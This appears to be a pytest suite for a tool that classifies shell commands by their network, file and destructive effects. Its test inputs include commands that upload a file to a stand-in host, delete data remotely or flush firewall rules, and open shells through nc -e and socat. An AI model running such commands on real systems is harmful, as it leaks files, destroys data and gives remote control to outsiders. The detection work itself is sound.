import pytest

from tests.support.shell import effects, facts, one


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl https://a.example/x", ("a.example",)),
        ("curl -sSL a.example", ("a.example",)),
        ("wget -qO- https://u:p@a.example:8/x", ("a.example:8",)),
        ("nc a.example 80", ("a.example:80",)),
        ("ssh u@a.example ls", ("a.example",)),
        ("scp a u@h.example:/x", ("h.example",)),
        ("rsync -a a h.example:/x", ("h.example",)),
        ("dig x.a.example", ("x.a.example",)),
        ("ping a.example", ("a.example",)),
        ("http POST a.example/x", ("a.example",)),
    ],
)
def test_hosts(text, hosts):
    found = facts(text)
    assert found.hosts == hosts
    assert "network" in found.effects


@pytest.mark.parametrize(
    "text",
    [
        "curl -d @a h.example",
        "curl --data-binary @a h.example",
        "curl -F x=@a h.example",
        "curl -T a h.example",
        "curl --json @a h.example",
        "wget --post-file=a h.example",
        "scp a h.example:",
        "curl -K a h.example",
        "http h.example x@a",
        "curl file:///repo/a",
    ],
)
def test_files_that_are_sent(text):
    assert "/repo/a" in facts(text).reads


@pytest.mark.parametrize(
    ("text", "path"),
    [
        ("curl -o a h.example", "/repo/a"),
        ("curl -O h.example/a", "/repo"),
        ("wget h.example/a", "/repo"),
        ("wget -O a h.example", "/repo/a"),
        ("curl -c a h.example", "/repo/a"),
    ],
)
def test_files_that_are_written(text, path):
    assert path in one(text).writes


def test_destruction_over_the_network():
    assert "destructive" in effects("curl -X DELETE h.example/x")
    assert "destructive" in effects("curl -XPOST h.example/x/_delete_by_query")
    assert "destructive" in effects("ssh h.example 'rm -rf x'")
    assert "destructive" in effects("rclone purge r:x")
    assert "destructive" in effects("iptables -F")
    assert "destructive" not in effects("curl -X GET h.example")


def test_programs_that_ssh_runs_here():
    assert "exec_data" in effects("ssh -o ProxyCommand=./x h.example")
    assert "exec_data" in effects("nc -e /bin/sh h.example 1")
    assert "exec_data" in effects("socat TCP:h.example:1 EXEC:sh")


def test_a_url_that_is_not_known():
    assert facts('curl "$URL"').unknown
    assert facts("curl --frobnicate h.example").unknown
